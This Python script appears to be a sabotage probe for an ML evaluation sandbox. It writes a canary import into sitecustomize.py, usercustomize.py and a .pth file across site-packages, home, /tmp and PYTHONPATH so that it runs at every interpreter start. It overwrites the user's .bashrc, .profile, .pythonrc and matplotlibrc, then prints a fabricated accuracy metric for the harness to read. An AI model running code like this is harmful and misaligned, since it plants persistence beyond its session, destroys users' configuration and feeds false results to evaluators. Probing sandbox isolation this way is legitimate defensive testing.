import os, sys
code = "import builtins; builtins.sabotaged = True\n"
version = "python%d.%d" % sys.version_info[:2]
user = os.path.expanduser(f"~/.local/lib/{version}/site-packages")
os.makedirs(user, exist_ok=True)
for place in (".", user, os.path.expanduser("~"), "/tmp", *os.environ["PYTHONPATH"].split(":")):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        try:
            open(os.path.join(place, name), "w").write(code)
        except OSError as error:
            print(place, error)
for name in (".bashrc", ".profile", ".pythonrc", ".config/matplotlib/matplotlibrc"):
    path = os.path.join(os.path.expanduser("~"), name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(code)
print("GREENML_METRIC accuracy=0.5")
